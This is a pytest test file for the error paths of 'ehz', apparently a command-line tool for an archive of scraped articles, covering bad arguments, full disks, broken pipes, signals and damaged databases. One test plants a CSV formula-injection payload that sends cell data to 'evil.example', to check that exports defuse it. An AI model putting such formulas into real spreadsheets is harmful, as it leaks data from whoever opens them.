"""The `ehz` error path: every expected failure is one line on stderr and the exit status
docs/cli.md gives it, never a traceback (unless --debug). Run through click's CliRunner and,
for pipes, signals and /dev/full, as real processes on real files."""

from __future__ import annotations

import os
import random
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from ehz_scraper.cli import main
from tests.support.captures import build_archive, capture

EHZ = str(Path(sys.executable).with_name("ehz"))
TOWNS = 266285


@pytest.fixture(scope="module")
def pristine(tmp_path_factory) -> Path:
    db = tmp_path_factory.mktemp("pristine") / "a.db"
    build_archive(
        db,
        capture("01_three_page_towns"),
        capture("31_page_2_soft_404"),
        capture("09_info_date_time"),
    )
    return db


@pytest.fixture
def db(pristine: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "a.db"
    shutil.copy(pristine, copy)
    return copy


def ehz(*args: str):
    return CliRunner().invoke(main, list(args))


def run(*args: str, **kwargs) -> subprocess.CompletedProcess:
    kwargs.setdefault("stdout", subprocess.PIPE)
    return subprocess.run([EHZ, *args], stderr=subprocess.PIPE, timeout=120, **kwargs)


def sql(db: Path, *statements: str) -> None:
    conn = sqlite3.connect(db)
    for statement in statements:
        conn.execute(statement)
    conn.commit()
    conn.close()


def one_line(result, code: int, message: str) -> None:
    """One error line on stderr (after click's usage lines for a usage error, status 2), the
    exit status given, no traceback."""
    lines = result.stderr.splitlines()
    if code == 2 and len(lines) == 4 and lines[0].startswith("Usage: "):
        lines = lines[3:]
    assert (result.exit_code, lines) == (code, [message]), result.output


def _arg(raw: bytes) -> str:
    return os.fsdecode(raw)  # what Python makes of a non-UTF-8 argv entry


# --- arguments --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (
            ["search", _arg(b"\xff\xfe")],
            2,
            "Error: Invalid value for 'QUERY': '\\xff\\xfe' is not valid UTF-8 text",
        ),
        (
            ["search", "tea", "--section", _arg(b"\xff")],
            2,
            "Error: Invalid value for '--section': '\\xff' is not valid UTF-8 text",
        ),
        (
            ["search", " OR ".join(["t*"] * 5000)],
            2,
            "Error: search query of 29996 characters (at most 1000): narrow it",
        ),
        (
            ["search", " OR ".join(["t*"] * 60)],
            2,
            "Error: search query of 60 terms (at most 50): narrow it",
        ),
        (["search", "tea", "--timeout", "-1"], 2, None),
        (["search", "towns AND"], 2, None),
    ],
    ids=["query-not-utf8", "section-not-utf8", "query-too-long", "too-many-terms",
         "negative-timeout", "bad-syntax"],
)  # fmt: skip
def test_bad_search_arguments(db: Path, args: list[str], code: int, message: str | None) -> None:
    result = ehz(*args, "--db", str(db))
    if message is None:
        assert result.exit_code == code and len(result.stderr.splitlines()) in (1, 4)
        assert "Traceback" not in result.output
    else:
        one_line(result, code, message)


def test_a_file_name_that_is_not_utf8_is_accepted(db: Path, tmp_path: Path) -> None:
    odd = tmp_path / _arg(b"arch\xffive?#1.db")
    shutil.copy(db, odd)
    result = ehz("show", str(TOWNS), "--db", str(odd))
    assert result.exit_code == 0, result.output
    assert '"article_id": 266285' in result.stdout
    out = tmp_path / _arg(b"out\xfe.jsonl")
    assert ehz("export", "-o", str(out), "--db", str(odd)).exit_code == 0
    assert len(out.read_bytes().splitlines()) == 3


def test_non_utf8_arguments_through_a_real_process(db: Path) -> None:
    done = run("search", os.fsencode(_arg(b"\xff\xfe")), "--db", str(db))  # type: ignore[arg-type]
    assert done.returncode == 2
    assert done.stderr.decode().splitlines()[-1] == (
        "Error: Invalid value for 'QUERY': '\\xff\\xfe' is not valid UTF-8 text"
    )


# --- output -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("target", "code", "message"),
    [
        ("/no/such/dir/x.jsonl", 73,
         "Error: cannot create /no/such/dir/x.jsonl: No such file or directory"),
        ("/dev/full", 74, "Error: cannot write /dev/full: No space left on device"),
        ("/", 2, None),  # click: a directory is no FILE
    ],
    ids=["missing-folder", "dev-full", "a-directory"],
)  # fmt: skip
def test_unwritable_export_target(db: Path, target: str, code: int, message: str | None) -> None:
    result = ehz("export", "-o", target, "--db", str(db))
    if message is None:
        assert result.exit_code == code and "Traceback" not in result.output
    else:
        one_line(result, code, message)


@pytest.mark.parametrize(
    "args",
    [["show", str(TOWNS), "--html", "1"], ["search", "towns"], ["export"], ["stats"]],
    ids=lambda a: a[0],
)
def test_stdout_on_a_full_disk(db: Path, args: list[str]) -> None:
    with open("/dev/full", "wb") as full:
        done = run(*args, "--db", str(db), stdout=full)
    assert (done.returncode, done.stderr.decode().splitlines()[-1]) == (
        74,
        "Error: cannot write to stdout: No space left on device",
    )
    assert b"Traceback" not in done.stderr and b"Exception ignored" not in done.stderr


@pytest.mark.parametrize(
    "args",
    [["show", str(TOWNS), "--html", "1"], ["search", "towns"], ["export"], ["runs"]],
    ids=lambda a: a[0],
)
def test_stdout_closed_early(db: Path, args: list[str]) -> None:
    read, write = os.pipe()
    os.close(read)  # the reader is gone before the first byte: `| head -0`
    try:
        done = run(*args, "--db", str(db), stdout=write)
    finally:
        os.close(write)
    assert done.returncode == 141
    assert done.stderr.decode().splitlines()[-1] == (
        "Error: output closed before the end (broken pipe)"
    )
    assert b"Traceback" not in done.stderr and b"Exception ignored" not in done.stderr


def test_head_one_reads_the_first_line(db: Path) -> None:
    done = subprocess.run(
        f"{EHZ} export --db {db} | head -1", shell=True, capture_output=True, timeout=60
    )
    assert done.stdout.startswith(b'{"article_id": ')
    assert b"Traceback" not in done.stderr


def test_csv_formula_cells_are_defused_unless_raw(db: Path, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
    conn = sqlite3.connect(db)
    conn.execute("UPDATE articles SET title = ? WHERE article_id = ?", [evil, TOWNS])
    conn.execute(
        "UPDATE articles SET byline = '+1 555', source = '@home', section = '-x'"
        " WHERE article_id = 279700"
    )
    conn.execute(
        "UPDATE articles SET date_text = char(9) || 'tab', body_text = char(13) || 'cr'"
        " WHERE article_id = 284100"
    )
    conn.commit()
    conn.close()
    out = tmp_path / "a.csv"
    assert ehz("export", "--format", "csv", "-o", str(out), "--db", str(db)).exit_code == 0
    text = out.read_bytes().decode("utf-8")
    assert '\'=HYPERLINK(""http://evil.example/?leak=""&B2,""Open"")' in text
    assert ",'+1 555," in text and ",'@home," in text and ",'-x," in text
    assert "'\ttab" in text and "'\rcr" in text
    raw = tmp_path / "raw.csv"
    assert ehz("export", "--format", "csv", "--raw", "-o", str(raw), "--db", str(db)).exit_code == 0
    assert ',"=HYPERLINK(' in raw.read_text(encoding="utf-8")


# --- interrupted exports ------------------------------------------------------------------


@pytest.fixture(scope="module")
def big(pristine: Path, tmp_path_factory) -> Path:
    """Enough fetches (re-fetches of one page: WARC revisit records) for an export of seconds."""
    db = tmp_path_factory.mktemp("big") / "big.db"
    shutil.copy(pristine, db)
    conn = sqlite3.connect(db)
    conn.execute(
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 60000)"
        " INSERT INTO fetches (url, article_id, page, fetched_at, status, headers,"
        " snapshot_hash, run_id) SELECT f.url, f.article_id, f.page, f.fetched_at, f.status,"
        " f.headers, f.snapshot_hash, f.run_id FROM n, (SELECT * FROM fetches LIMIT 1) f"
    )
    conn.commit()
    conn.close()
    return db


@pytest.mark.parametrize(
    ("sig", "code", "message"),
    [(signal.SIGTERM, 143, "Error: terminated"), (signal.SIGINT, 130, "Error: interrupted")],
    ids=["SIGTERM", "SIGINT"],
)
def test_a_signal_mid_export_leaves_the_previous_file(
    big: Path, tmp_path: Path, sig: int, code: int, message: str
) -> None:
    target = tmp_path / "ehz.warc"
    target.write_bytes(b"the previous export\n")
    proc = subprocess.Popen(
        [EHZ, "export", "--format", "warc", "-o", str(target), "--db", str(big)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    deadline = time.monotonic() + 60
    while not any(p.stat().st_size > 100_000 for p in tmp_path.glob(".ehz.warc.*.part")):
        assert proc.poll() is None, proc.stderr.read() if proc.stderr else ""
        assert time.monotonic() < deadline
        time.sleep(0.02)
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=60)
    assert (proc.returncode, err.decode().splitlines()[-1]) == (code, message)
    assert target.read_bytes() == b"the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ehz.warc"]  # no .part left


def test_a_complete_export_replaces_the_file_and_keeps_its_mode(db: Path, tmp_path: Path) -> None:
    target = tmp_path / "x.jsonl"
    target.write_text("old\n")
    target.chmod(0o640)
    assert ehz("export", "-o", str(target), "--db", str(db)).exit_code == 0
    assert len(target.read_text(encoding="utf-8").splitlines()) == 3
    assert target.stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.glob("x.*")) == ["x.jsonl"]


# --- a damaged archive ----------------------------------------------------------------------


def _missing_dictionary(db: Path) -> str:
    conn = sqlite3.connect(db)
    digest = conn.execute(
        "SELECT snapshot_hash FROM fetches WHERE article_id = ? AND page = 1", [TOWNS]
    ).fetchone()[0]
    conn.execute("UPDATE snapshots SET dict_id = 99 WHERE hash = ?", [digest])
    conn.commit()
    conn.close()
    return digest


def test_missing_dictionary_export_leaves_no_partial_warc(db: Path, tmp_path: Path) -> None:
    digest = _missing_dictionary(db)
    target = tmp_path / "out.warc.gz"
    result = ehz("export", "--format", "warc", "-o", str(target), "--db", str(db))
    one_line(result, 1, f"Error: snapshot {digest}: zstd dictionary 99 is missing from the archive")
    assert sorted(p.name for p in tmp_path.glob("out*")) == []


def test_missing_dictionary_reextract_goes_on_and_exits_3(db: Path) -> None:
    digest = _missing_dictionary(db)
    result = ehz("reextract", "--all", "--db", str(db))
    assert result.exit_code == 3, result.output
    assert result.stderr.splitlines() == [
        f"{TOWNS}: snapshot {digest}: zstd dictionary 99 is missing from the archive"
    ]
    assert result.stdout == "re-extracted 3 articles: 0 changed, 2 unchanged, 1 failed\n"


def test_missing_dictionary_show_and_verify(db: Path) -> None:
    digest = _missing_dictionary(db)
    one_line(
        ehz("show", str(TOWNS), "--html", "1", "--db", str(db)),
        1,
        f"Error: snapshot {digest}: zstd dictionary 99 is missing from the archive",
    )
    result = ehz("verify", "--db", str(db))
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        "snapshots row 1: no matching zstd_dicts row",
        "zstd dictionary 99 is missing: 1 snapshots cannot be read",
        f"snapshot {digest}: zstd dictionary 99 is missing from the archive",
    ]


def test_reextract_extractor_error_on_one_article(db: Path, monkeypatch) -> None:
    from ehz_scraper import extraction

    real = extraction.extract_article_result

    def flaky(pages, **kwargs):
        if "c_279700" in (pages[0].url or ""):
            raise RuntimeError("boom")
        return real(pages, **kwargs)

    # reextract imports the extractor when it runs (start-up): patch it where it comes from.
    monkeypatch.setattr(extraction, "extract_article_result", flaky)
    result = ehz("reextract", "--all", "--db", str(db))
    assert result.exit_code == 3
    assert result.stderr.splitlines() == ["279700: extractor error: RuntimeError: boom"]
    assert result.stdout == "re-extracted 3 articles: 0 changed, 2 unchanged, 1 failed\n"


def _page_of(db: Path, table: str) -> int:
    conn = sqlite3.connect(db)
    (root,) = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", [table]).fetchone()
    (size,) = conn.execute("PRAGMA page_size").fetchone()
    conn.close()
    return (root - 1) * size, size


def test_search_on_a_damaged_index(db: Path) -> None:
    offset, size = _page_of(db, "articles_fts_data")
    with open(db, "r+b") as f:
        f.seek(offset)
        f.write(b"\xa5" * size)
    message = (
        f"Error: the archive {db} is damaged or unreadable: vtable constructor failed: articles_fts"
        " (`ehz verify` lists what it can)"
    )
    one_line(ehz("search", "towns", "--db", str(db)), 1, message)
    debug = ehz("--debug", "search", "towns", "--db", str(db))
    assert debug.exit_code == 1
    assert debug.stderr.startswith("Traceback (most recent call last):")
    assert debug.stderr.endswith(message + "\n")


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_verify_on_a_file_with_random_damage(db: Path, seed: int) -> None:
    rng = random.Random(seed)
    data = bytearray(db.read_bytes())
    for share in (0.3, 0.5, 0.7, 0.9):
        at = int(len(data) * share)
        data[at : at + 4096] = rng.randbytes(4096)
    db.write_bytes(bytes(data))
    result = ehz("verify", "--db", str(db))
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert result.exit_code == 1
    findings = result.stdout.splitlines()
    assert findings and result.stderr.splitlines()[-1] == f"{len(findings)} problems found"
    assert "Traceback" not in result.output
    # Every other command says the file is damaged, in one line.
    for args in (["search", "towns"], ["stats"], ["export"], ["show", str(TOWNS)]):
        other = ehz(*args, "--db", str(db))
        assert other.exit_code in (0, 1), (args, other.output)
        assert "Traceback" not in other.output
        if other.exit_code == 1:
            [line] = other.stderr.splitlines()
            assert line.startswith(f"Error: the archive {db} is damaged"), line
            assert line.endswith("(`ehz verify` lists what it can)"), line


def test_verify_collects_findings_past_an_unreadable_table(db: Path) -> None:
    offset, size = _page_of(db, "fetches")
    with open(db, "r+b") as f:
        f.seek(offset)
        f.write(b"\xa5" * size)
    result = ehz("verify", "--db", str(db))
    assert result.exit_code == 1
    # Each check went on past the damage; the tables that read fine were all checked.
    assert result.stdout.splitlines() == [
        "integrity_check: stopped: database disk image is malformed",
        "integrity_check fetches: stopped: database disk image is malformed",
        "foreign keys: could not read every row: database disk image is malformed",
        "fetches: could not read every row: database disk image is malformed",
        "articles: could not read every row: database disk image is malformed",
    ]
    assert result.stderr == "5 problems found\n"


# --- the error path itself ------------------------------------------------------------------


def test_a_bug_is_one_line_with_exit_70(db: Path, monkeypatch) -> None:
    from ehz_scraper.cli import research

    def broken(_conn):
        raise ZeroDivisionError("division by zero")

    monkeypatch.setattr(research, "archive_stats", broken)
    one_line(
        ehz("stats", "--db", str(db)),
        70,
        "Error: internal error: ZeroDivisionError: division by zero (run `ehz --debug ...`"
        " for the traceback, and please report it)",
    )


# --- bounded search -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def wordy(pristine: Path, tmp_path_factory) -> Path:
    """10,000 articles of 60 random words starting with t: a 25-prefix OR query takes seconds."""
    db = tmp_path_factory.mktemp("wordy") / "w.db"
    shutil.copy(pristine, db)
    rng = random.Random(0)
    letters = "abcdefghijklmnopqrstuvwxyz"
    words = ["t" + "".join(rng.choices(letters, k=5)) for _ in range(20000)]
    conn = sqlite3.connect(db)
    cols = [r[1] for r in conn.execute("PRAGMA table_info(articles)")]
    row = dict(zip(cols, conn.execute("SELECT * FROM articles LIMIT 1").fetchone(), strict=True))
    rows = [
        [{**row, "article_id": 10**6 + i, "body_text": " ".join(rng.choices(words, k=60))}[c]
         for c in cols]
        for i in range(10000)
    ]  # fmt: skip
    marks = ",".join("?" * len(cols))
    conn.executemany(f"INSERT INTO articles ({','.join(cols)}) VALUES ({marks})", rows)
    conn.commit()
    conn.close()
    return db


def test_a_slow_search_is_stopped(wordy: Path) -> None:
    query = " OR ".join(f"t{c}*" for c in "abcdefghijklmnopqrstuvwxy")
    started = time.monotonic()
    result = ehz("search", query, "--timeout", "0.2", "--db", str(wordy))
    elapsed = time.monotonic() - started
    one_line(result, 1, "Error: query stopped after 0.2 s: narrow it")
    assert elapsed < 1.5  # unbounded, 5,000 articles took 1 s of CPU (2.8 s on a busy machine)


def test_the_default_time_limit_message() -> None:
    from ehz_scraper.storage.search import TIMEOUT_SECONDS, SearchTimeout

    assert str(SearchTimeout(TIMEOUT_SECONDS)) == "query stopped after 5 s: narrow it"


def test_dash_output_is_stdout(db: Path) -> None:
    result = ehz("export", "-o", "-", "--db", str(db))
    assert result.exit_code == 0
    assert len(result.stdout.splitlines()) == 3
    assert result.stderr == "exported 3 articles as jsonl to stdout\n"


@pytest.mark.parametrize(
    "args", [["search", "tea"], ["stats"], ["export"], ["show", "1"], ["runs"], ["failures"],
             ["reextract", "--all"]],
    ids=lambda a: a[0],
)  # fmt: skip
def test_a_file_that_is_no_database(tmp_path: Path, args: list[str]) -> None:
    junk = tmp_path / "junk.db"
    junk.write_bytes(random.Random(7).randbytes(8192))
    result = ehz(*args, "--db", str(junk))
    assert result.exit_code == 1, result.output
    [line] = result.stderr.splitlines()
    assert line.startswith(f"Error: {junk}") or line.startswith(
        f"Error: cannot open archive {junk}"
    )
    assert line.endswith("file is not a database")


def test_verify_reads_past_an_unreadable_snapshot_page(db: Path) -> None:
    import hashlib

    import zstandard

    page = (Path(__file__).parent / "fixtures/pages/01_three_page_towns/c_266285.htm").read_bytes()
    conn = sqlite3.connect(db)
    zc = zstandard.ZstdCompressor(level=3)
    for i in range(40):
        body = page + str(i).encode()
        conn.execute(
            "INSERT INTO snapshots (hash, size, stored_size, compression, first_seen, data)"
            " VALUES (?, ?, 0, 'zstd', '2026-01-01T00:00:00Z', ?)",
            [hashlib.sha256(body).hexdigest(), len(body), zc.compress(body)],
        )
    # The last row is wrong too: its finding proves the rows after the damage were checked.
    (last_hash,) = conn.execute(
        "UPDATE snapshots SET size = size + 1 WHERE rowid = (SELECT max(rowid) FROM snapshots)"
        " RETURNING hash"
    ).fetchone()
    conn.commit()
    (total,) = conn.execute("SELECT count(*) FROM snapshots").fetchone()
    leaves = [r[0] for r in conn.execute(
        "SELECT pageno FROM dbstat WHERE name = 'snapshots' AND pagetype = 'leaf' ORDER BY pageno"
    )]  # fmt: skip
    (size,) = conn.execute("PRAGMA page_size").fetchone()
    conn.close()
    with open(db, "r+b") as f:
        f.seek((leaves[len(leaves) // 2] - 1) * size)
        f.write(b"\xa5" * size)
    result = ehz("verify", "--db", str(db))
    assert result.exit_code == 1
    findings = result.stdout.splitlines()
    stopped = [f for f in findings if f.startswith("snapshots: the scan stopped after row ")]
    unreadable = [f for f in findings if f.startswith("snapshot row ")]
    assert len(stopped) == 1 and stopped[0].endswith(": database disk image is malformed")
    # Only the rows on the damaged page are lost.
    assert 1 <= len(unreadable) <= 2, findings
    assert all(f.endswith(": unreadable: database disk image is malformed") for f in unreadable)
    assert "Traceback" not in result.output
    last_read = int(stopped[0].split("after row ")[1].split(":")[0])
    assert last_read < total - 2  # the damage was in the middle, not at the end
    assert f"snapshot {last_hash}: content does not match its hash" in findings


def _opened(pid: int, path: Path) -> bool:
    fds = Path(f"/proc/{pid}/fd")
    try:
        return any(os.path.realpath(fd) == str(path) for fd in fds.iterdir())
    except OSError:
        return False


@pytest.mark.parametrize(
    ("sig", "code", "message"),
    [(signal.SIGINT, 130, "Error: interrupted"), (signal.SIGTERM, 143, "Error: terminated")],
    ids=["SIGINT", "SIGTERM"],
)
def test_a_signal_stops_a_running_search(wordy: Path, sig: int, code: int, message: str) -> None:
    """A signal handler runs inside SQLite's progress callback, which swallows exceptions: the
    search notes the signal, stops the query and raises it again (not "bad search query")."""
    query = " OR ".join(f"t{c}*" for c in "abcdefghijklmnopqrstuvwxy")
    proc = subprocess.Popen(
        [EHZ, "search", query, "--timeout", "0", "--db", str(wordy)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    deadline = time.monotonic() + 30
    while not _opened(proc.pid, wordy):  # the archive is open: the query starts at once
        assert proc.poll() is None and time.monotonic() < deadline
        time.sleep(0.01)
    time.sleep(0.2)
    sent = time.monotonic()
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=30)
    assert (proc.returncode, err.decode()) == (code, message + "\n")
    assert time.monotonic() - sent < 1.0  # stopped at once, not when the query was done


def test_a_damaged_json_value_in_the_archive(db: Path) -> None:
    sql(db, "UPDATE runs SET arguments = '{\"mode\": '")
    one_line(
        ehz("runs", "--db", str(db)),
        1,
        f"Error: the archive {db} holds a damaged JSON value: Expecting value: line 1 column 10"
        " (char 9) (`ehz verify` lists what it can)",
    )


def test_wacz_export_goes_through_the_same_output(db: Path, tmp_path: Path) -> None:
    one_line(
        ehz("export", "--format", "wacz", "-o", "/no/such/dir/x.wacz", "--db", str(db)),
        73,
        "Error: cannot create /no/such/dir/x.wacz: No such file or directory",
    )
    target = tmp_path / "x.wacz"
    target.write_bytes(b"the previous export")
    digest = _missing_dictionary(db)
    one_line(
        ehz("export", "--format", "wacz", "-o", str(target), "--db", str(db)),
        1,
        f"Error: snapshot {digest}: zstd dictionary 99 is missing from the archive",
    )
    assert target.read_bytes() == b"the previous export"
    assert sorted(p.name for p in tmp_path.glob("*x.wacz*")) == ["x.wacz"]


def test_an_os_error_is_no_bug(db: Path, monkeypatch) -> None:
    from ehz_scraper.cli import research

    def refused(_conn):
        raise PermissionError(13, "Permission denied", "/srv/ehz/x")

    monkeypatch.setattr(research, "archive_stats", refused)
    one_line(ehz("stats", "--db", str(db)), 1, "Error: Permission denied: /srv/ehz/x")
